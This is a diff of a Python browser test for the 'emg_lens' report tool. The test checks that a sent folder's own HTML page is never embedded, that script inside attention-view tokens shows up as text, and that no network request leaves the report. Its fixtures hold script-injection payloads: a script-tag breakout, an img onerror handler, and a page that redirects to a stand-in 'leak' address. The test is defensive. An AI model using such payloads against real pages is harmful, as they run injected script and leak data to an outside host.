@@ -1,14 +1,18 @@
 """report.html of a folder someone sent, in a real browser (Chromium, as
-`test_report_browser` drives it): an attention view with script in it runs only inside its
-sandboxed frame (issue 37 item 1), a working CircuitsVis view still renders there, and the
-summary table's significance stars read exactly as written (issue 41 item 1)."""
+`test_report_browser` drives it): the folder's own attention_view.html is never embedded (it
+could send the frame to a remote address, issue 47 section 3 item 9), the view is drawn from
+attention_view.json with script in its tokens shown as text, no request leaves the page, a
+working CircuitsVis view renders in its frame, and the summary table's significance stars
+read exactly as written (issue 41 item 1)."""
 
 from __future__ import annotations
 
-import circuitsvis.attention
+import json
+
 import torch
 
 from emg_lens.cli import main
+from emg_lens.report.view import view_record
 from tests.integration.test_report_browser import ARGS, _browser_or_skip
 
 # What a view's script would do to the page around it, were it not in a sandboxed frame; it
@@ -26,12 +30,10 @@ STARRED = (
 
 
 def _view(tokens: list[str]) -> str:
+    """``attention_view.json`` as emg-lens inspect writes it."""
     torch.manual_seed(0)
-    pattern = torch.rand(2, len(tokens), len(tokens)).softmax(-1)
-    view = circuitsvis.attention.attention_heads(
-        attention=pattern, tokens=tokens, attention_head_names=["L0H0", "L0H1"]
-    )
-    return view.local_src
+    pattern = torch.rand(2, len(tokens), len(tokens)).softmax(-1).double()
+    return json.dumps(view_record(tokens, ["L0H0", "L0H1"], pattern))
 
 
 def _open(report, inspect):
@@ -53,38 +55,49 @@ def _open(report, inspect):
     return seen, console, failed, requests
 
 
-def test_a_view_with_script_in_its_tokens_runs_nothing_outside_its_sandboxed_frame(tmp_path):
+def test_a_sent_folders_page_is_never_embedded_and_script_in_tokens_is_text(tmp_path):
     _browser_or_skip()
     folder = tmp_path / "sent"
     folder.mkdir()
-    tokens = ["cls", f"</script><script>{ATTACK}</script>", "<img src=x>", "C3"]
-    (folder / "attention_view.html").write_text(_view(tokens), encoding="utf-8")
+    # A page in the folder that would run the attack and send the frame elsewhere.
+    foreign = f"<script>{ATTACK} location = 'http://198.51.100.7/leak';</script>"
+    (folder / "attention_view.html").write_text(foreign, encoding="utf-8")
+    run = "document.documentElement.setAttribute('data-ran','yes')"
+    tokens = ["cls", f"</script><script>{run}</script>", "<img src=x onerror={run}>", "C3"]
+    (folder / "attention_view.json").write_text(_view(tokens), encoding="utf-8")
     (folder / "summary.md").write_text(STARRED, encoding="utf-8")
     assert main(["report", str(folder)]) == 0
+    report = (folder / "report.html").resolve()
 
     def inspect(page):
         frame = page.frames[1]
-        frame.wait_for_function("document.documentElement.getAttribute('data-ran') === 'yes'")
+        frame.wait_for_selector("text=Head Selector")
         return {
             "title": page.title(),
             "heading": page.locator("h1").first.inner_text(),
             "body": page.locator("body").inner_text(),
             "flag": page.evaluate("typeof window.emgLensOwned"),
+            "ran": frame.evaluate("document.documentElement.getAttribute('data-ran')"),
             "frames": [f.url for f in page.frames],
+            "frame": frame.evaluate("document.body.textContent"),
         }
 
-    seen, _, _, _ = _open((folder / "report.html").resolve(), inspect)
+    seen, _, failed, requests = _open(report, inspect)
     assert seen["title"] == "sent · emg_lens" and seen["heading"] == "sent"
     assert "owned" not in seen["body"] and "Attention view" in seen["body"]
-    assert seen["flag"] == "undefined"
-    assert seen["frames"][1] == "about:srcdoc"  # the view ran (data-ran), in its own frame
+    assert "attention_view.html" in seen["body"]  # listed as left out, with why
+    assert seen["flag"] == "undefined" and seen["ran"] is None  # the attack never ran
+    assert seen["frames"][1] == "about:srcdoc"
+    assert "\\u003c/script\\u003e\\u003cscript\\u003edocument" in seen["frame"]  # as data
+    assert not failed, failed
+    assert requests == [report.as_uri()], requests  # nothing left the page
 
 
 def test_a_circuitsvis_view_renders_in_its_frame_and_stars_read_as_written(tmp_path):
     _browser_or_skip()
     folder = tmp_path / "inspect"
     folder.mkdir()
-    (folder / "attention_view.html").write_text(_view(["cls", "C3", "Cz", "C4"]), "utf-8")
+    (folder / "attention_view.json").write_text(_view(["cls", "C3", "Cz", "C4"]), "utf-8")
     (folder / "summary.md").write_text(STARRED, encoding="utf-8")
     assert main(["report", str(folder)]) == 0
     report = (folder / "report.html").resolve()
